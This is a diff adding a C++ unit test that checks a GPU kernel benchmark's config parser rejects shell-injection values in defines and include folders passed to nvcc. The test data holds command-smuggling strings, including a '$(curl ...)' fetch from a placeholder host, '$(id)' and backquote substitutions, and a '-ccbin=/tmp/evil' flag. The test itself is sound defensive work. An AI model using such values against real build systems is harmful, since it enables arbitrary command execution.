@@ -185,3 +185,23 @@ TEST_CASE("bench: mistakes in a comment spec give the source line") {
   CHECK(spec.error().message.find("k.cu:3:1: [[kernel]] 'k': unknown key 'blok' (did you mean 'block'?)") !=
         std::string::npos);
 }
+
+// A `// kforecast:` block comes from the pull request: its defines and folders reach nvcc, which
+// runs its steps through a shell.
+TEST_CASE("bench: a spec's define or folder that a shell would act on is an error naming the key") {
+  const std::string spec = "[[kernel]]\nname = \"k\"\ngrid = [1]\nblock = [1]\n";
+  CHECK(error_of(spec + "defines = { X = \"1$(curl -s http://HOST/x)\" }\n") ==
+        ".kforecast.toml:5:17: [[kernel]] 'k': key 'defines.X': its value holds '$', which the shell nvcc runs its "
+        "steps in would act on");
+  CHECK(error_of(spec + "defines = { \"X($(id))\" = \"1\" }\n").find("'X($(id))' is not a macro name") !=
+        std::string::npos);
+  CHECK(error_of(spec + "defines = { \"X=1 -ccbin=/tmp/evil\" = \"1\" }\n").find("is not a macro name") !=
+        std::string::npos);
+  CHECK(error_of(spec + "include_dirs = [\"inc`id`\"]\n").find("key 'include_dirs': 'inc`id`' holds a backquote") !=
+        std::string::npos);
+  auto fine = read_config_specs(spec + "defines = { NAME = \"\\\"{a b}\\\"\", \"MAX(a, b)\" = \"a\" }\n", "c.toml");
+  INFO((fine ? std::string() : fine.error().message));
+  REQUIRE(fine);
+  REQUIRE(fine->size() == 1);
+  CHECK(fine->front().defines.size() == 2);
+}
